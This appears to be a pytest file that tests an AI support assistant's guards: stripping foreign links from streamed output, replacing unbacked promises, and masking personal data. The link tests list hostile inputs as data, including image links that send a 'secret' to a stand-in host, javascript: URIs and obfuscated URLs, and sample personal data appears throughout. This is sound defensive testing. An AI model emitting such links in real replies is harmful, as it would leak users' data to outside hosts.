"""What a model's words pass before a person or an endpoint sees them: links, promises, masks."""

import asyncio
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from assistant.commitments import commits
from assistant.links import Links
from assistant.masking import Mask, Masked
from assistant.model import Message, Name, NameKind, Request, Speaker, TextPiece
from assistant.promises import Promises
from assistant.references import Citations
from domain.errors import TooManyError
from domain.language import Language
from domain.models import Ticket
from tests.assistant.conftest import Talk
from tests.assistant.endpoint import call, say
from tools.context import reference

SIZES = (1, 2, 5, 1_000)


def through(guard, text, size):
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(guard.feed(piece) for piece in pieces) + guard.finish()


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize(
    "written",
    [
        "![](https://evil.example/a.png?d=secret)",
        "![chart](//evil.example/a.png)",
        "[click here](https://evil.example/login)",
        "[x](javascript:alert(1))",
        "<https://evil.example>",
        "<img src=https://evil.example/a>",
        "<a href='https://evil.example'>here</a>",
        "see https://evil.example/path?q=1.",
        "见https://evil.example/a。",
        "www.evil.example/x",
        "evil.example/collect?d=1",
        "//evil.example/x",
        "[id]: https://evil.example/x",
        "ｈｔｔｐｓ：／／evil.example/x",
        "ht\u200btps://evil.example/x",
        "[a](/\\evil.example)",
        "data:text/html;base64,ZXZpbC5leGFtcGxl//evil.example",
        "[![alt](https://evil.example/i.png)](https://evil.example)",
        "HTTPS://EVIL.EXAMPLE/X",
        "https://tickets.our.example@evil.example/",
        "https://our.example.evil.example/",
        "[x](/&#47;evil.example/p)",
        "[id]: /&sol;evil.example\n\n![a][id]",
        "![a][id]\n\n[id]: https&#x3A;&#47;&#47;evil.example",
        "[x](j&#97;vascript&colon;alert(1)//evil.example)",
        "[id]: JAVASCRIPT:alert(1)//evil.example",
    ],
)
def test_no_foreign_address_is_shown_however_it_is_cut(written, size):
    shown = through(Links(Language.EN, {"our.example"}), f"Before {written} after.", size)
    assert "evil.example" not in shown.lower()
    assert "javascript" not in shown.lower()
    assert shown.startswith("Before ")
    assert shown.endswith("after.")


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize(
    "text",
    [
        "See [K2602-0001], update to 8023.",
        "[the list](/tickets?kind=rma) says 4K/50fps and 3 < 4 > 2",
        "press <Menu: Record> and <video onload=x> stay words",
        "[site](https://our.example/a?b=1) or https://our.example/x",
        "版本 8.0.25／8.0.26，温度低于 40°C。[KB-0023]",
        "- a\n- **b** `c//d`",
        "mail max@harbour.example or call +44 20 7946 0000",
        "AT&amp;T &lt;b&gt; R&D; 3 &#60; 4",
    ],
)
def test_our_own_pages_and_plain_text_stay_as_they_are(text, size):
    shown = through(Links(Language.EN, {"our.example"}), text, size)
    assert shown == text


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("read", [True, False])
def test_a_link_to_a_page_of_a_number_is_the_reference_of_that_number(read, size):
    links, citations = Links(Language.EN), Citations("", Language.EN)
    if read:
        citations.learn([reference("ticket", "K2602-0001", "Freeze")])
    shown = through(links, "see [the ticket](/tickets/K2602-0001)", size)
    shown = citations.feed(shown) + citations.finish()
    assert shown == f"see the ticket {'[K2602-0001]' if read else '(unverified number)'}"


PROMISES = [
    "We will call you back tomorrow.",
    "Our team will contact you within 24 hours.",
    "I'll send the part on Monday.",
    "You will receive a refund by Friday.",
    "我们会尽快给您回电。",
    "工程师明天会上门。",
    "您将在三天内收到退款。",
    "保证本周修好！",
]


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("promise", PROMISES)
def test_an_empty_promise_is_not_made(promise, size):
    guard = Promises(Language.EN, lambda _: False, lambda _: False)
    shown = through(guard, f"The fan is loud. {promise} Please check it.", size)
    assert promise not in shown
    assert "cannot promise" in shown
    assert shown.startswith("The fan is loud.")
    assert shown.endswith("Please check it.")


@pytest.mark.parametrize(
    "text",
    [
        "Update to 8.0.25. The camera will restart.",
        "这个固件会修复死机问题。",
        "You will find it in the menu.",
        "A card waits for your approval.",
        "The dealer shipped it on 2026-02-01.",
        "如需返厂，请先提交申请。",
    ],
)
def test_statements_that_promise_nothing_stay(text):
    guard = Promises(Language.EN, lambda _: False, lambda _: False)
    assert through(guard, text, 3) == text


SENTENCES = json.loads((Path(__file__).parent / "promises.json").read_text(encoding="utf-8"))


def test_promises_are_known_by_who_acts_and_when_and_statements_are_left_alone():
    """Sentences written before anyone looked at what becomes of them, several times over."""
    slipped = [each for each in SENTENCES["promises"] if not commits(each)]
    struck = [each for each in SENTENCES["statements"] if commits(each)]
    assert struck == []
    assert len(slipped) <= 0.04 * len(SENTENCES["promises"])


def test_what_the_desk_wrote_about_repairs_is_hardly_ever_taken_for_a_promise(demo_store):
    with demo_store.unbound_reader() as session:
        solved = session.scalars(select(Ticket.solution).where(Ticket.solution.is_not(None)))
        written = {
            part for text in solved for part in re.split(r"(?<=[。.!?])\s*|\n", text) if part
        }
    assert len(written) > 300
    assert sum(map(commits, written)) <= 0.01 * len(written)


def test_a_promise_stands_where_a_ticket_does_and_never_with_an_unread_day(hosted, scripted):
    scripted.script = [
        call("read_ticket", {"number": "K2602-0001"}),
        say("We will contact you about [K2602-0001]. We will call you about [K2602-0001] "
            "on Friday. We will call you."),
    ]  # fmt: skip
    text = Talk(hosted).say("what about this one in English, please?").text
    assert "We will contact you about [K2602-0001]." in text
    assert "Friday" not in text
    assert text.count("cannot promise") == 2


# Masks

NAMES = (Name(NameKind.CUSTOMER, "Max Mueller", ("Max Mueller",)),)


def masked(text, *more):
    messages = [Message(Speaker.USER, text), *more]
    mask = Mask(NAMES, messages)
    return mask, [mask.hide(each).text for each in messages]


def test_private_data_becomes_placeholders_and_comes_back():
    text = "max mueller (max@harbour.example, +44 20 7946 0000, 13812345678) about ME_207890"
    mask, [hidden] = masked(text)
    for private in ("mueller", "max@", "7946", "1381"):
        assert private not in hidden
    assert "ME_207890" in hidden
    assert mask.show(hidden) == text


def test_the_same_value_has_the_same_placeholder_in_every_message():
    result = json.dumps({"ticket": {"contact": "Lena Vogt", "description": "Lena Vogt called"}})
    _, [_, tool] = masked("Max Mueller", Message(Speaker.TOOL, result, call_id="a"))
    assert "Lena" not in tool
    assert tool.count("[[NAME_") == 2
    assert len(set(tool.split("[[")[1:])) <= 2


@pytest.mark.parametrize(
    "text",
    ["K2602-0001 and RMA-D-2601-0145", "2026-02-15 09:00, firmware 8023, 4096 x 2160, 1,234.50 USD",
     "SKU A1-123-456-78, SN ME_207890, 24/25/30 fps", "K25120089"],
)  # fmt: skip
def test_numbers_of_the_business_are_no_phones(text):
    _, [hidden] = masked(text)
    assert hidden == text


PRIVATE = [
    ("客户电话13812345678，麻烦回电", "13812345678"),
    ("打给１３９１２３４５６７８转王工", "１３９１２３４５６７８"),
    ("固话 010-88886666 上班时间", "010-88886666"),
    ("see IMG_13900001111.jpg", "13900001111"),
    ("400-820-8820 is busy", "400-820-8820"),
    ("邮箱max.li@harbour.example谢谢", "max.li@harbour.example"),
    ("write to jürgen@harbour.example", "jürgen@harbour.example"),
    ("微信号：li_wei_88 可以加", "li_wei_88"),
    ("WeChat is maxm2020, please", "maxm2020"),
    ("QQ: 123456789", "123456789"),
    ("身份证 11010119900307123X 已核对", "11010119900307123X"),
    ("card 4111 1111 1111 1111 was charged", "4111 1111 1111 1111"),
    ("IBAN DE89 3704 0044 0532 0130 00", "3704 0044"),
    ("寄到广东省深圳市南山区科技园南路12号A座1203室", "科技园南路12号"),
    ("地址：朝阳区建国路88号院5号楼", "建国路88号"),
    ("ship to 221B Baker Street, London NW1 6XE", "221B Baker Street"),
    ("Hauptstraße 12, 10115 Berlin", "Hauptstraße 12"),
    ("P.O. Box 4711, Dubai", "P.O. Box 4711"),
    ("王先生说风扇很响", "王"),
    ("联系人：李晓明，下午在", "李晓明"),
    ("我叫陈静", "陈静"),
    ("Mr. Smith called about ME_207890", "Smith"),
    ("My name is Anna Berg and it freezes", "Anna Berg"),
    ("Best regards, Tom Hardy", "Tom Hardy"),
    ("Mueller is angry, and Max too", "Mueller"),
    ("张伟的机器死机", "张伟"),
    ("for max_mueller again", "max_mueller"),
    ("Chen has called again", "Chen"),  # also where a colleague is a Chen
]
PEOPLE = (*NAMES, Name(NameKind.CUSTOMER, "张伟", ()),
          Name(NameKind.CUSTOMER, "Edge Rentals", ()), Name(NameKind.CUSTOMER, "Ann Chen", ()),
          Name(NameKind.PERSON, "repair", ("陈高松", "chen gaosong")),
          Name(NameKind.CUSTOMER, "max_mueller", ()),
          Name(NameKind.PRODUCT, "MAVO Edge 8K", ("Edge",)))  # fmt: skip


@pytest.mark.parametrize(("text", "private"), PRIVATE)
def test_private_data_is_found_in_every_dress_and_comes_back_as_it_was(text, private):
    """In what a person typed, and in a result where escapes stand before and behind it."""
    result = json.dumps({"description": f"first line\n{text}\nlast line"}, ensure_ascii=False)
    messages = [
        Message(Speaker.USER, text),
        Message(Speaker.TOOL, result, call_id="a"),
    ]
    mask = Mask(PEOPLE, messages)
    typed, read = (mask.hide(each).text for each in messages)
    assert private not in typed + read
    assert mask.show(typed) == text
    assert mask.show_all(json.loads(read)) == json.loads(result)


@pytest.mark.parametrize(
    "text",
    ["max temperature 40 °C, Edge 8K, MAVO Edge 8K at 4096x2160", "固件 8.0.25／8023，两路 SDI",
     "经理已批准，项目组高度重视", "张家口现场，路演 3 号机", "DHL4471688120, 1Z999AA10123456784",
     "版本 2026Q1-003，S1-011-013-01 两件", "Dear Customer, thank you", "the St 1 menu, page 12",
     "ISO 800 / 1600 / 3200 / 6400", "2025-03-15 to 2027-03-15, 14 days, 12:30"],
)  # fmt: skip
def test_what_is_nobodys_reaches_the_model(text):
    mask = Mask(PEOPLE, [])
    assert mask.hide(Message(Speaker.USER, text)).text == text


def test_a_result_stays_one_and_fields_of_people_and_places_are_hidden_whole():
    result = {
        "ticket": {"customer": {"code": "li_studio", "name": "Li"}, "contact": "阿May",
                   "details": {"return_address": "c/o Studio, Dock 4"}},
        "proposal": {"preview": [{"label": "Delivery address", "new": "Dock 4, Pier"}]},
        "facts": [{"name": "return_address", "value": "Gate 7"}, {"name": "work", "value": "fan"}],
    }  # fmt: skip
    message = Message(Speaker.TOOL, json.dumps(result, ensure_ascii=False), call_id="a")
    mask = Mask((), [message])
    hidden = mask.hide(message).text
    for private in ("li_studio", "阿May", "Dock", "Gate"):
        assert private not in hidden
    assert "fan" in hidden
    assert mask.show_all(json.loads(hidden)) == result


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize(
    "spelt",
    ["[[NAME_1]]", "NAME_1", "[NAME_1]", "[[name_1]]",
     "NAME\\_1", "\\[\\[NAME\\_1\\]\\]",
     "【【NAME_1】】", "{{NAME_1}}", "<NAME_1>", "[[ NAME_1 ]]", "[[NAME 1]]", "[[NAME-01]]"],
)  # fmt: skip
def test_a_placeholder_comes_back_however_the_model_spells_and_cuts_it(spelt, size):
    said = f"I told {spelt}, see [K2602-0001] [a] name 2."

    class Speaks:
        name = "m"

        async def complete(self, request):
            assert "Mueller" not in request.messages[0].text
            for at in range(0, len(said), size):
                yield TextPiece(said[at : at + size])

    async def heard():
        messages = [Message(Speaker.USER, "Max Mueller")]
        request = Request(messages, (), Language.EN, datetime.now(UTC), NAMES)
        return "".join([event.text async for event in Masked(Speaks()).complete(request)])

    assert asyncio.run(heard()) == "I told Max Mueller, see [K2602-0001] [a] name 2."


def test_a_hosted_model_never_sees_private_data_and_the_person_does(make_service, scripted):
    scripted.script = [
        call("open_ticket", {"kind": "consult", "sn": "ME_207890", "customer": "[[NAME_1]]",
                             "summary": "ask [[MAIL_1]]"}),
        say("A card waits for [[NAME_1]], MAIL_1, [NAME_99]."),
    ]  # fmt: skip
    service = make_service(llm_base_url=scripted.url, llm_model="scripted", llm_per_minute=0)
    reply = Talk(service).say("open a ticket for Max Mueller, max@harbour.example, ME_207890")
    sent = json.dumps(scripted.requests)
    assert "max@harbour" not in sent
    assert "Mueller" not in sent
    assert reply.text.startswith("A card waits for Max Mueller, max@harbour.example, –.")
    assert "Max Mueller" in {line.new for line in reply.proposals[0].preview}
    assert reply.proposals[0].arguments["summary"] == "ask max@harbour.example"


def test_a_person_who_sends_too_much_to_a_hosted_model_is_asked_to_wait(make_service, scripted):
    scripted.script = [say("Hello.")]
    service = make_service(llm_base_url=scripted.url, llm_per_minute=2)
    talk = Talk(service)
    for _ in range(2):
        talk.say("hello")
    with pytest.raises(TooManyError):
        talk.say("hello")
    assert Talk(service, "lead").say("hello").text == "Hello."
